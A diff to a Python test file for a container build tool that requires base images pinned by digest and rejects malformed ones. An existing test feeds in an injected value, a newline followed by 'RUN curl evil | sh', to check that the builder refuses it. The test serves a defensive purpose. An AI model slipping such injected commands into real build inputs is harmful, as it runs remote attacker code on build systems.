@@ -42,7 +42,7 @@ def test_same_sources_give_the_same_bytes(tmp_path: Path) -> None:
 
 def test_contents_change_the_hash(tmp_path: Path) -> None:
     default = build.build_artifact(tmp_path / "a")
-    other = build.build_artifact(tmp_path / "b", base_image="python:3.13-slim")
+    other = build.build_artifact(tmp_path / "b", base_image=f"python:3.13-slim@sha256:{'0' * 64}")
 
     assert build.sha256_file(default) != build.sha256_file(other)
 
@@ -85,6 +85,23 @@ def test_bad_base_image_is_refused(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="base_image"):
         build.build_artifact(tmp_path, base_image="python:3.12\nRUN curl evil | sh")
     assert list(tmp_path.iterdir()) == []
+
+
+def test_a_base_image_by_tag_is_refused_naming_the_option(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Issue 32: the worker's Dockerfile started FROM python:3.12-slim, which nothing checked.
+    tagged = "public.ecr.aws/docker/library/python:3.12-slim"
+    with pytest.raises(SystemExit) as exited:
+        build.main(["--out", str(tmp_path / "out"), "--base-image", tagged])
+    assert exited.value.code == 2
+    assert capsys.readouterr().err.splitlines()[-1] == (
+        "python -m sandboxkit.aws.worker.build: error: --base-image: base_image "
+        f"{tagged} must be pinned by digest (image@sha256:<64 hex digits>, as the registry "
+        "reports it), so a moved tag cannot change what every MicroVM runs"
+    )
+    assert not (tmp_path / "out").exists()
+    assert build.DEFAULT_BASE_IMAGE.startswith(f"{tagged}@sha256:")
 
 
 def test_cli_prints_path_and_sha256(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
